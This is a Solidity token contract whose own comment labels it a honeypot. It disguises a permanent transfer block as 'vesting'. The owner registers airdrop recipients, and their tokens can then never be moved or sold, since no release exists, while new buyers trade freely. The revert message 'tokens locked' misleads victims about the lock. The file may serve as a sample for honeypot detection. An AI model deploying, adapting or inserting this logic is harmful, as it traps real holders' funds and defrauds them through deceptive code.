// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

import {ERC20, Ownable, IDexRouter, IDexFactory} from "./Base.sol";

/// @title Conditional honeypot by a list, armed for real holders: the
/// owner registers the launch recipients as "vesting" with
/// registerAirdrop(address[]); a registered wallet can never transfer or
/// sell (there is no release), while wallets outside the list, such as a
/// new buyer, trade normally.
contract AirdropVaultToken is ERC20, Ownable {
    address public immutable pair;
    address[] private _vesting;

    constructor(address router, uint256 supply) ERC20("Airdrop Vault", "ADV") Ownable(msg.sender) {
        IDexRouter r = IDexRouter(router);
        pair = IDexFactory(r.factory()).createPair(address(this), r.WETH());
        _mint(msg.sender, supply);
    }

    function registerAirdrop(address[] calldata recipients) external onlyOwner {
        for (uint256 i = 0; i < recipients.length; i++) {
            _vesting.push(recipients[i]);
        }
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 n = _vesting.length;
        for (uint256 i = 0; i < n; i++) {
            if (_vesting[i] == from) revert("Vesting: tokens locked");
        }
        _move(from, to, value);
    }
}
